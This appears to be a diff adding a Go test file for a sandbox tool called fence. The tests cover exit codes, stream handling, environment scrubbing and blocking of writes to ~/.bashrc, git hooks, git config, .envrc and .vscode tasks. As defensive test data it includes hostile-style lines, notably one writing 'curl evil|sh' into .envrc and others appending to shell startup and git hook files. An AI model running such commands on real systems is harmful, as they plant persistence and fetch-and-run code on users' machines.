@@ -1,0 +1,146 @@
+package sandbox_test
+
+import (
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/fence-dev/fence/sandbox"
+	"github.com/fence-dev/fence/sandbox/sandboxtest"
+)
+
+// TestMain lets this test binary serve as the sandbox init when a test
+// calls sandbox.Start directly (the init is /proc/self/exe re-executed).
+func TestMain(m *testing.M) {
+	if len(os.Args) == 2 && os.Args[1] == sandbox.InitArg {
+		os.Exit(sandbox.RunInit())
+	}
+	os.Exit(m.Run())
+}
+
+const writeDot = `
+[filesystem]
+allowWrite = ["."]
+`
+
+const writeDotAndHome = `
+[filesystem]
+allowWrite = [".", "~"]
+`
+
+func TestExitStatus(t *testing.T) {
+	e := sandboxtest.New(t, writeDot)
+	e.Write("notexec", "#!/bin/sh\necho hi\n")
+	for _, c := range []struct {
+		args []string
+		code int
+	}{
+		{[]string{"--", "true"}, 0},
+		{[]string{"--", "false"}, 1},
+		{[]string{"-c", "exit 42"}, 42},
+		{[]string{"--", "./notexec"}, 126},
+		{[]string{"--", "/etc"}, 126},
+		{[]string{"--", "no-such-command-anywhere"}, 127},
+		{[]string{"--", "./no-such-file"}, 127},
+		{[]string{"-c", "kill -INT $$"}, 130},
+		{[]string{"-c", "kill -9 $$"}, 137},
+		{[]string{"-c", "kill -TERM $$"}, 143},
+	} {
+		r := e.Run(c.args...)
+		if r.Code != c.code {
+			t.Errorf("fence %q: status %d, want %d\n%s", c.args, r.Code, c.code, r.Out())
+		}
+	}
+	if r := e.Run("-c", "echo hi"); r.Stdout != "hi\n" || r.Code != 0 {
+		t.Errorf("fence -c 'echo hi': %q status %d", r.Out(), r.Code)
+	}
+	if r := e.Run("--", "sh", "-c", `printf '%s|' "$@"`, "x", "a b", "--settings", "-d"); r.Stdout != "a b|--settings|-d|" {
+		t.Errorf("arguments after -- changed: %q", r.Out())
+	}
+}
+
+func TestStdioStreams(t *testing.T) {
+	e := sandboxtest.New(t, writeDot)
+	e.Write("big.in", strings.Repeat("0123456789abcdef\n", 1<<16))
+	r := e.Run("-c", "cat < big.in > big.out; wc -c < big.out")
+	if strings.TrimSpace(r.Stdout) != "1114112" || e.Read("big.out") != e.Read("big.in") {
+		t.Errorf("streaming through the sandbox: %q", r.Out())
+	}
+	r = e.Run("-c", "ls -l /proc/self/fd/ | grep -c -- '->'")
+	// 0, 1, 2 and the fd ls opened on the directory itself.
+	if strings.TrimSpace(r.Stdout) != "4" {
+		t.Errorf("open fds inside: %q", r.Out())
+	}
+}
+
+func TestEnvironment(t *testing.T) {
+	e := sandboxtest.New(t, writeDot)
+	extra := []string{"LD_PRELOAD=/x.so", "LD_LIBRARY_PATH=/evil", "SSH_AUTH_SOCK=/tmp/agent.sock", "DISPLAY=:0",
+		"DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1/bus", "TMUX=/tmp/tmux-1/default,1,0", "KEEP_ME=yes"}
+	direct := e.Direct("true") // sanity: the direct env is what we pass
+	_ = direct
+	r := e.RunEnv(extra, "--", "env")
+	for _, bad := range []string{"LD_PRELOAD", "LD_LIBRARY_PATH", "SSH_AUTH_SOCK", "DISPLAY=", "DBUS_SESSION", "TMUX="} {
+		if strings.Contains(r.Stdout, bad) {
+			t.Errorf("%s reached the sandbox:\n%s", bad, r.Stdout)
+		}
+	}
+	for _, want := range []string{"KEEP_ME=yes", "HTTPS_PROXY=http://127.0.0.1:3128", "ALL_PROXY=socks5h://127.0.0.1:1080",
+		"NO_PROXY=localhost,127.0.0.1,::1", "TMPDIR=/tmp", "GIT_SSH_COMMAND=ssh -o ProxyCommand=", "NODE_USE_ENV_PROXY=1"} {
+		if !strings.Contains(r.Stdout, want) {
+			t.Errorf("%s missing inside:\n%s", want, r.Stdout)
+		}
+	}
+}
+
+// TestAcceptanceWrites is issue 3's acceptance list for writes, with
+// allowWrite = ["."] as an unprivileged user.
+func TestAcceptanceWrites(t *testing.T) {
+	e := sandboxtest.New(t, writeDot)
+	gitInit(t, e)
+	e.Write("~/.bashrc", "# bashrc\n")
+	before := map[string]string{}
+	for _, f := range []string{".git/config", "~/.bashrc", ".fence.toml"} {
+		before[f] = e.Read(f)
+	}
+	r := e.Sh(`echo ok > inside.txt && echo written`)
+	if r.Code != 0 || e.Read("inside.txt") != "ok\n" {
+		t.Fatalf("writing in the project failed: %s", r.Out())
+	}
+	for _, script := range []string{
+		`echo evil > ~/x`,
+		`echo evil > ../x`,
+		`echo evil > .git/hooks/pre-commit`,
+		`echo evil >> .git/config`,
+		`echo evil >> ~/.bashrc`,
+		`echo evil >> .fence.toml`,
+	} {
+		r := e.Sh(script)
+		if r.Code == 0 {
+			t.Errorf("%s: succeeded inside the sandbox", script)
+		}
+	}
+	for f, want := range before {
+		if got := e.Read(f); got != want {
+			t.Errorf("%s changed on the host: %q", f, got)
+		}
+	}
+	for _, f := range []string{"~/x", "../x", ".git/hooks/pre-commit"} {
+		if e.Exists(f) {
+			t.Errorf("%s exists on the host", f)
+		}
+	}
+	// Protected paths that do not exist: created inside, quarantined.
+	r = e.Sh(`printf 'curl evil|sh\n' > .envrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo done`)
+	if !strings.Contains(r.Stdout, "done") {
+		t.Fatalf("script failed: %s", r.Out())
+	}
+	for _, f := range []string{".envrc", ".vscode"} {
+		if e.Exists(f) {
+			t.Errorf("%s survived the session", f)
+		}
+		if !strings.Contains(r.Stderr, e.Path(f)) {
+			t.Errorf("no notice about %s:\n%s", f, r.Stderr)
+		}
+	}
+}
